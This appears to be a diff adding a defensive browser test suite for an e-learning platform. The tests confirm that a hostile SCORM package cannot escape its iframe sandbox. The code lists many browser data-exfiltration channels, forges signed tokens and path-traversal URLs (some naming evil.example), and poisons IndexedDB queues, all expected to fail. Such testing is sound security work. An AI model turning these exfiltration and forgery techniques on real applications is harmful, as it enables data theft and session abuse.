@@ -1,0 +1,469 @@
+import { createSocket } from 'node:dgram'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { api, listOperations } from '@learnt/contract'
+import { fillPath } from '@learnt/contract/endpoint'
+import type { Frame, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { type Caller, callerOf, password, signInByApi } from './given/calls.ts'
+import { type GivenCourse, givenCourse, givenPackage, packageStep } from './given/courses.ts'
+import { type Device, deviceOf } from './given/devices.ts'
+import { buildPackage } from './given/packages.ts'
+import { freePort, type Learnt, startLearnt } from './learnt.ts'
+import { hostilePackage } from './player/hostile-package.ts'
+import { type RecordingProxy, startRecordingProxy } from './torture/recording-proxy.ts'
+import { makeWorld, type TortureWorld } from './torture/world.ts'
+
+/*
+ * A package that attacks the application which plays it, in a real browser, while the application's page is open around
+ * it. That its probes do work where nothing stops them is shown by player/hostile-package.test.ts.
+ *
+ * Open by design, and therefore not counted below:
+ * - its own attempt: a package speaks for the attempt that it was opened for, and whatever it says is its own word; it
+ *   shares an origin with the player and can take the token, which opens that attempt and nothing else
+ * - a window that it opens after a click: a visit to any address like one by a link, which it can neither read nor post
+ *   in; what stands in that address leaves with it
+ * - where the content address has no {label}, packages of one installation share an origin: one can throw away what
+ *   another has left unsent in this browser, and cannot forge it, for it is sealed
+ */
+
+let learnt: Learnt
+let proxy: RecordingProxy
+let world: TortureWorld
+let hostile: GivenCourse
+let learner: { account: string; userId: string }
+/** A place on another origin that wants to hear secrets, over HTTP and over UDP. */
+const outside = { heard: [] as string[], port: 0, udpPort: 0, close: () => {} }
+
+beforeAll(async () => {
+  let port = 0
+  proxy = await startRecordingProxy(() => port)
+  const [inner, contentPort] = [await freePort(), await freePort()]
+  port = inner
+  const publicUrl = `http://localhost:${proxy.port}`
+  learnt = await startLearnt({
+    demo: false,
+    settings: {
+      PORT: String(inner),
+      CONTENT_PORT: String(contentPort),
+      PUBLIC_URL: publicUrl,
+      CONTENT_URL: `http://127.0.0.1:${contentPort}`,
+    },
+  })
+  world = await makeWorld({ url: publicUrl, settings: learnt.settings }, { learners: 2, courses: 1 })
+  learner = world.learners[0] as typeof learner
+  const packageId = await givenPackage(world.admin, hostilePackage())
+  hostile = await givenCourse(world.admin, {
+    title: 'Hostile',
+    steps: [packageStep('The package', packageId)],
+    rule: { rule: {}, everyone: true },
+  })
+
+  const server = createServer((request, reply) => {
+    outside.heard.push(`${request.method} ${request.url}`)
+    reply.setHeader('access-control-allow-origin', '*')
+    reply.end('heard')
+  })
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
+  outside.port = (server.address() as AddressInfo).port
+  const udp = createSocket('udp4')
+  udp.on('message', () => outside.heard.push('a packet'))
+  await new Promise<void>((done) => udp.bind(0, '127.0.0.1', done))
+  outside.udpPort = udp.address().port
+  outside.close = () => {
+    server.close()
+    udp.close()
+  }
+})
+afterAll(async () => {
+  outside.close()
+  await learnt?.stop()
+  await proxy?.close()
+})
+
+const publicUrl = () => `http://localhost:${proxy.port}`
+const playerSelector = 'iframe[title^="Player:"]'
+
+async function startPackage(device: Device, of: { course: string; isDone?: boolean }): Promise<Frame> {
+  const { page } = device
+  page.on('dialog', (dialog) => void dialog.accept())
+  await page.goto('/apps/courses/mycourses')
+  await page.getByRole('link', { name: of.course }).click()
+  await page
+    .getByRole('link', { name: /The package/ })
+    .first()
+    .click()
+  await page.getByRole('button', { name: /^(Start|Continue|Look at it again)$/ }).click()
+  await page.locator(playerSelector).waitFor()
+  return packageFrame(page)
+}
+
+async function packageFrame(page: Page): Promise<Frame> {
+  for (let round = 0; round < 600; round++) {
+    const frame = page.frames().find((one) => /\/c\/[^/]+\/.+\.html/.test(one.url()))
+    if (frame) return frame
+    await new Promise((resolve) => setTimeout(resolve, 50))
+  }
+  throw new Error('The package was not opened')
+}
+
+/** The application as it is for whoever looks: nothing of it may have changed. */
+async function lookOf({ page, context }: Device) {
+  const inPage = await page.evaluate(() => ({
+    title: document.title,
+    taken: 'taken' in window,
+    stored: JSON.stringify(localStorage),
+    workers: navigator.serviceWorker?.controller === null,
+  }))
+  const cookies = (await context.cookies(publicUrl())).map(({ name, value }) => `${name}=${value}`).toSorted()
+  return { ...inPage, url: page.url(), cookies }
+}
+
+describe('a hostile package', () => {
+  test('reaches nothing of the application, page, cookies, operations or messages', { timeout: 240_000 }, async () => {
+    const device = await deviceOf(learner.account, { url: publicUrl() })
+    const frame = await startPackage(device, { course: 'Hostile' })
+    const before = await lookOf(device)
+    await frame.waitForFunction(() => 'outcomes' in window, undefined, { timeout: 120_000 })
+    const outcomes = await frame.evaluate(() => (window as never as { outcomes: Record<string, string> }).outcomes)
+    const names = Object.keys(outcomes)
+    expect(names.length).toBeGreaterThanOrEqual(60)
+    expect(Object.entries(outcomes).filter(([, outcome]) => outcome === 'reached')).toEqual([])
+
+    const probes = proxy.seen.filter((one) => /probe/.test(one.url))
+    // A window is a visit like one by a link.
+    const visits = probes.filter((one) => one.method === 'GET' && one.url === '/probe/window-of-the-application')
+    expect(probes.filter((one) => !visits.includes(one))).toEqual([])
+    // What came from the content origin came to the run-time API, without cookies.
+    const fromContent = proxy.seen.filter(
+      (one) => one.origin === learnt.settings.CONTENT_URL || one.site === 'cross-site',
+    )
+    expect(fromContent.filter((one) => !visits.includes(one) && !one.url.startsWith('/api/runtime/'))).toEqual([])
+    expect(fromContent.filter((one) => !visits.includes(one) && one.cookie !== '')).toEqual([])
+    expect(await lookOf(device)).toEqual(before)
+    await device.page.getByRole('dialog').getByRole('button', { name: 'Leave', exact: true }).click()
+    await device.page.getByRole('button', { name: /^(Start|Continue)$/ }).waitFor()
+    process.stdout.write(
+      `hostile package: ${names.length} probes in the browser, 0 reached the application (${visits.length} windows, by design)\n`,
+    )
+  })
+
+  test('tells nobody outside what it knows', { timeout: 120_000 }, async () => {
+    const device = await deviceOf(learner.account, { url: publicUrl() })
+    const frame = await startPackage(device, { course: 'Hostile' })
+    outside.heard.length = 0
+    const tried = await frame.evaluate(tellOutside, {
+      address: `http://127.0.0.1:${outside.port}/secret`,
+      udpPort: outside.udpPort,
+    })
+    await new Promise((resolve) => setTimeout(resolve, 1500))
+    expect(tried.length).toBeGreaterThanOrEqual(20)
+    process.stdout.write(
+      `hostile package: ${tried.length} ways out tried, ${outside.heard.length} heard outside: ${outside.heard.join(', ')}\n`,
+    )
+    expect(outside.heard).toEqual([])
+  })
+
+  test('takes the token of its attempt, which opens that attempt and nothing else', { timeout: 120_000 }, async () => {
+    const device = await deviceOf(learner.account, { url: publicUrl() })
+    const seenBefore = proxy.seen.length
+    await startPackage(device, { course: 'Hostile' })
+    const bearer = () => proxy.seen.slice(seenBefore).find((one) => one.authorization !== '')?.authorization
+    await expect.poll(bearer).toBeTruthy()
+    const authorization = bearer() ?? ''
+
+    // Every operation of the contract, with the token in every place where a program might look for one.
+    const reached: string[] = []
+    let asked = 0
+    for (const operation of listOperations()) {
+      if (
+        operation.access === 'attempt' ||
+        operation.access === 'public' ||
+        operation.access === 'guest' ||
+        operation.access === 'operator'
+      )
+        continue
+      const ids = new Proxy(
+        {},
+        { get: (_, name) => (name === 'documentType' ? 'course' : hostile.id), has: () => true },
+      )
+      const token = authorization.replace('Bearer ', '')
+      const path = fillPath(operation.path, ids)
+      for (const headers of [
+        { authorization },
+        { authorization, origin: publicUrl() },
+        { cookie: `__Host-Http-learnt=${token}; learnt_session=${token}` },
+      ] as Record<string, string>[]) {
+        const body = operation.method === 'GET' || operation.method === 'DELETE' ? {} : { body: '{}' }
+        const answer = await fetch(`${publicUrl()}${path}?token=${encodeURIComponent(token)}`, {
+          method: operation.method,
+          headers: { 'content-type': 'application/json', 'idempotency-key': crypto.randomUUID(), ...headers },
+          ...body,
+        })
+        asked++
+        if (answer.status !== 401 && answer.status !== 403 && answer.status !== 426)
+          reached.push(`${operation.id}: ${answer.status}`)
+      }
+    }
+    expect(reached).toEqual([])
+
+    // Its own attempt: by design. Another one's: by no change of the token.
+    const state = (token: string) => fetch(`${publicUrl()}/api/runtime/state`, { headers: { authorization: token } })
+    expect((await state(authorization)).status).toBe(200)
+    const [body = '', signature = ''] = authorization.replace('Bearer ', '').split('.')
+    const claims = JSON.parse(Buffer.from(body, 'base64url').toString()) as Record<string, unknown>
+    const other = await givenAttempt(world.learners[1] as typeof learner)
+    const forged = [
+      { ...claims, attemptId: other.attemptId },
+      { ...claims, attemptId: other.attemptId, userId: (world.learners[1] as typeof learner).userId },
+      { ...claims, tenantId: 'munro' },
+      { ...claims, expiresAt: Date.now() + 1e12 },
+      { ...claims, mode: 'browse' },
+    ].map((one) => Buffer.from(JSON.stringify(one)).toString('base64url'))
+    const tokens = [
+      ...forged.flatMap((text) => [`${text}.${signature}`, `${text}.`, text]),
+      `${body}.`,
+      `.${signature}`,
+      `${body}.${signature}.x`.replace('.x', 'x'),
+      signature,
+    ]
+    const statuses = await Promise.all(tokens.map(async (token) => (await state(`Bearer ${token}`)).status))
+    expect(statuses.filter((status) => status !== 401)).toEqual([])
+    process.stdout.write(
+      `hostile package: its token at ${asked} calls of operations and ${tokens.length} forgeries of it, 0 let in\n`,
+    )
+
+    // The one that was not its own still is what it was.
+    const theirs = await fetch(`${publicUrl()}/api/runtime/state`, {
+      headers: { authorization: `Bearer ${other.token}` },
+    })
+    expect(await theirs.json()).toMatchObject({ attemptId: other.attemptId })
+  })
+
+  test('gets no file of another package, by its own address or by one that it makes up', async () => {
+    const device = await deviceOf(learner.account, { url: publicUrl() })
+    const frame = await startPackage(device, { course: 'Hostile' })
+    const otherId = await givenPackage(world.admin, await buildPackage({ title: 'Not yours' }))
+    const [, segment = ''] = /\/c\/([^/]+)\//.exec(frame.url()) ?? []
+    const [text = '', signature = ''] = segment.split('.')
+    const parts = JSON.parse(Buffer.from(text, 'base64url').toString()) as unknown[]
+    const forge = (change: Record<number, unknown>) =>
+      Buffer.from(JSON.stringify(parts.map((part, index) => change[index] ?? part))).toString('base64url')
+    const paths = [
+      ...[{ 2: otherId }, { 1: 'munro' }, { 0: 99_999 }, { 3: crypto.randomUUID() }, { 4: 'http://evil.example' }].map(
+        (change) => `/c/${forge(change)}.${signature}/imsmanifest.xml`,
+      ),
+      `/c/${segment}/../${otherId}/imsmanifest.xml`,
+      `/c/${segment}/..%2f${otherId}%2fimsmanifest.xml`,
+      `/c/${segment}/%2e%2e/%2e%2e/imsmanifest.xml`,
+      `/c/${text}./imsmanifest.xml`,
+      `/c/${text}/imsmanifest.xml`,
+      `/c//imsmanifest.xml`,
+      `/c/${otherId}/imsmanifest.xml`,
+      `/player/${forge({ 4: 'http://evil.example' })}.${signature}/scorm12.html`,
+    ]
+    const read = (path: string) =>
+      frame.evaluate(
+        (address) =>
+          fetch(address).then(
+            (answer) => answer.status,
+            () => 0,
+          ),
+        path,
+      )
+    const statuses: number[] = []
+    for (const path of paths) statuses.push(await read(path))
+    expect(statuses.filter((status) => status !== 404)).toEqual([])
+    expect(await read(`/c/${segment}/imsmanifest.xml`)).toBe(200)
+    process.stdout.write(`hostile package: ${paths.length} addresses of other content, 0 answered\n`)
+  })
+
+  test('writes into the player’s queue in vain: what it forges for another attempt is never sent', {
+    timeout: 120_000,
+  }, async () => {
+    const device = await deviceOf(learner.account, { url: publicUrl() })
+    const frame = await startPackage(device, { course: 'Hostile' })
+    const mine = await givenAttempt(learner, (world.courses[0] as TortureWorld['courses'][0]).courseId)
+    const forged = await frame.evaluate(forgeJournal, { attemptId: mine.attemptId })
+    expect(forged).toBeGreaterThan(0)
+    await device.page.getByRole('dialog').getByRole('button', { name: 'Leave', exact: true }).click()
+    const from = proxy.seen.length
+    await startPackage(device, { course: 'Course 0' })
+    await expect.poll(() => proxy.seen.slice(from).some((one) => one.url === '/api/runtime/state')).toBe(true)
+    await new Promise((resolve) => setTimeout(resolve, 1000))
+    const state = await (
+      await fetch(`${publicUrl()}/api/runtime/state`, { headers: { authorization: `Bearer ${mine.token}` } })
+    ).text()
+    expect(state).not.toContain('forged')
+  })
+})
+
+/** Somebody's own attempt at a package, launched by the API. */
+async function givenAttempt(
+  who: { account: string },
+  courseId = hostile.id,
+): Promise<{ attemptId: string; token: string }> {
+  const caller: Caller = await signInByApi(publicUrl(), who.account, password)
+  const course = await caller.call(api.learning.course, { params: { userCourseId: courseId } })
+  const step = course.sections.flatMap((section) => section.activities).find((one) => one.kind === 'scorm')
+  return caller.call(api.learning.launch, {
+    params: { userCourseId: course.userCourseId, activityId: step?.id ?? '' },
+    body: {},
+  })
+}
+
+/** Runs in the package's page: every way of telling somebody outside. Answers what was tried. */
+async function tellOutside({ address, udpPort }: { address: string; udpPort: number }): Promise<string[]> {
+  const tried: string[] = []
+  const player = window.parent
+  const attempt = async (name: string, tell: (to: string) => unknown) => {
+    tried.push(name)
+    try {
+      await Promise.race([
+        tell(`${address}?${name.replaceAll(' ', '-')}`),
+        new Promise((resolve) => setTimeout(resolve, 300)),
+      ])
+    } catch {
+      // Refused: that is what is hoped for.
+    }
+  }
+  const element = (tag: string, set: Record<string, string>, into = document) => {
+    const made = into.createElement(tag)
+    for (const [name, value] of Object.entries(set)) made.setAttribute(name, value)
+    into.body.append(made)
+    return made
+  }
+  const navigated = (go: (inner: HTMLIFrameElement) => void, into = document) => {
+    const inner = element('iframe', {}, into) as HTMLIFrameElement
+    go(inner)
+    return new Promise((resolve) => setTimeout(resolve, 300))
+  }
+  await attempt('fetch', (to) => fetch(to, { mode: 'no-cors' }))
+  await attempt('fetch kept alive', (to) => fetch(to, { mode: 'no-cors', method: 'POST', keepalive: true, body: 'x' }))
+  await attempt('beacon', (to) => navigator.sendBeacon(to, 'x'))
+  await attempt('old request', (to) => {
+    const request = new XMLHttpRequest()
+    request.open('GET', to)
+    request.send()
+  })
+  await attempt('socket', (to) => new WebSocket(to.replace('http', 'ws')))
+  await attempt('event source', (to) => new EventSource(to))
+  await attempt(
+    'transport',
+    (to) =>
+      new (window as never as { WebTransport: new (to: string) => unknown }).WebTransport(
+        to.replace('http:', 'https:'),
+      ),
+  )
+  await attempt('image', (to) => {
+    new Image().src = to
+  })
+  await attempt('script', (to) => element('script', { src: to }))
+  await attempt('style', (to) => element('link', { rel: 'stylesheet', href: to }))
+  await attempt('preconnect', (to) => element('link', { rel: 'preconnect', href: to }))
+  await attempt('prefetch', (to) => element('link', { rel: 'prefetch', href: to }))
+  await attempt('preload', (to) => element('link', { rel: 'preload', as: 'image', href: to }))
+  await attempt('manifest', (to) => element('link', { rel: 'manifest', href: to }))
+  await attempt('font', (to) => new FontFace('told', `url(${to})`).load())
+  await attempt('film', (to) => element('video', { src: to, autoplay: '' }))
+  await attempt('object', (to) => element('object', { data: to }))
+  await attempt('background', (to) => element('p', { style: `background: url(${to})` }))
+  await attempt('drawing', (to) => {
+    document.body.insertAdjacentHTML('beforeend', `<svg><image href="${to}"/><use href="${to}#a"/></svg>`)
+  })
+  await attempt('frame', (to) => navigated((inner) => inner.setAttribute('src', to)))
+  await attempt('frame moved', (to) => navigated((inner) => inner.contentWindow?.location.assign(to)))
+  await attempt('form', (to) => {
+    const form = element('form', { action: to, method: 'post', target: 'told' }) as HTMLFormElement
+    element('iframe', { name: 'told' })
+    form.submit()
+  })
+  await attempt('ping', (to) => (element('a', { href: '#told', ping: to }) as HTMLAnchorElement).click())
+  await attempt(
+    'worker',
+    (to) =>
+      new Worker(
+        URL.createObjectURL(
+          new Blob([`fetch(${JSON.stringify(to)}, { mode: 'no-cors' })`], { type: 'text/javascript' }),
+        ),
+      ),
+  )
+  await attempt(
+    'imported script',
+    (to) =>
+      new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(to)})`], { type: 'text/javascript' }))),
+  )
+  await attempt('module', (to) => (new Function('to', 'return import(to)') as (to: string) => Promise<unknown>)(to))
+  await attempt('call', async () => {
+    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }] })
+    call.createDataChannel('told')
+    await call.setLocalDescription(await call.createOffer())
+    await new Promise((resolve) => setTimeout(resolve, 1500))
+  })
+  // The same through the player, whose page it shares an origin with, and whose policy is its own.
+  await attempt('player: fetch', (to) => player.fetch(to, { mode: 'no-cors' }))
+  await attempt('player: image', (to) => element('img', { src: to }, player.document))
+  await attempt('player: script', (to) => element('script', { src: to }, player.document))
+  await attempt('player: frame', (to) => navigated((inner) => inner.setAttribute('src', to), player.document))
+  await attempt('player: form', (to) =>
+    (element('form', { action: to, method: 'post' }, player.document) as HTMLFormElement).submit(),
+  )
+  await attempt('player: socket', (to) => new (player as never as typeof window).WebSocket(to.replace('http', 'ws')))
+  await attempt('page of one’s own', (to) =>
+    navigated((inner) => inner.setAttribute('srcdoc', `<img src="${to}"><script>fetch("${to}")</script>`)),
+  )
+  await attempt('page of data', (to) =>
+    navigated((inner) =>
+      inner.setAttribute('src', `data:text/html,<img src="${to}"><script>fetch("${to}",{mode:"no-cors"})</script>`),
+    ),
+  )
+  await attempt('page of a blob', (to) =>
+    navigated((inner) =>
+      inner.setAttribute(
+        'src',
+        URL.createObjectURL(
+          new Blob([`<img src="${to}"><script>fetch("${to}",{mode:"no-cors"})</script>`], { type: 'text/html' }),
+        ),
+      ),
+    ),
+  )
+  return tried
+}
+
+/** Runs in the package's page: turns every record of the player's queue, and new ones, into words of another attempt. */
+async function forgeJournal({ attemptId }: { attemptId: string }): Promise<number> {
+  let forged = 0
+  for (const { name = '', version } of await indexedDB.databases()) {
+    const database = await new Promise<IDBDatabase>((resolve, reject) => {
+      const request = indexedDB.open(name, version)
+      request.onsuccess = () => resolve(request.result)
+      request.onerror = () => reject(request.error)
+    })
+    for (const store of database.objectStoreNames) {
+      const snapshot = { 'cmi.core.lesson_status': 'passed', 'cmi.suspend_data': 'forged' }
+      for (let epoch = 1; epoch <= 5; epoch++) {
+        const commit = {
+          epoch,
+          seq: 999,
+          sco: 'one',
+          visit: 1,
+          snapshot,
+          elapsed: 0,
+          initialized: true,
+          end: true,
+          calls: [],
+        }
+        for (const sco of ['one', 'part-1', 'ITEM-part-1', 'sco-part-1']) {
+          const record = { attemptId, epoch, seq: 999, sco, commit: { ...commit, sco }, seal: 'forged' }
+          await new Promise((resolve) => {
+            const written = database.transaction(store, 'readwrite').objectStore(store).put(record)
+            written.onsuccess = () => resolve(++forged)
+            written.onerror = resolve
+          }).catch(() => undefined)
+        }
+      }
+    }
+    database.close()
+  }
+  return forged
+}
